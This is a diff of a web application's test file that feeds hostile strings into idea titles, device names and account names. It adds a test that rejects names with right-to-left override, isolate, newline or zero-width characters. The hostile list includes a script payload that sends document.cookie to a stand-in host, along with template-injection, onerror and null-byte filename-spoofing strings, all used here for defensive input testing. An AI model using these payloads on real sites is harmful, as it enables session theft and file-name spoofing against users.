@@ -117,7 +117,7 @@ const hostile = [
   `\${7*7}{{7*7}}`,
   `<script>fetch('//evil.example?'+document.cookie)</script>`,
   `<img src=x onerror=alert(1)>`,
-  `%00 \\x00 \u202Etxt.exe`,
+  `%00 \\x00 txt.exe`,
 ];
 
 describe("SQL and markup in what people name things", () => {
@@ -131,6 +131,17 @@ describe("SQL and markup in what people name things", () => {
       expect(ideas.some(({ title }) => title === text.trim())).toBe(true);
       const { devices } = await succeed(await call(devicesRoute.GET, owner), deviceListReplySchema);
       expect(devices[0]?.name).toBe(text.trim());
+    }
+  });
+
+  it("are refused where they turn what stands beside them, or cannot be seen", async () => {
+    for (const text of ["a\u202Etxt.exe", "a\u2066b", "two\nlines", "\u200B"]) {
+      const idea = { method: "POST", body: { title: text } };
+      expect(await refusal(await call(ideasRoute.POST, owner, idea))).toBe("400 badRequest");
+      const device = { method: "PATCH", params: { id: cast.device }, body: { name: text } };
+      expect(await refusal(await call(deviceRoute.PATCH, owner, device))).toBe("400 badRequest");
+      const person = { method: "PATCH", body: { name: text } };
+      expect(await refusal(await call(accountRoute.PATCH, owner, person))).toBe("400 badRequest");
     }
   });
 
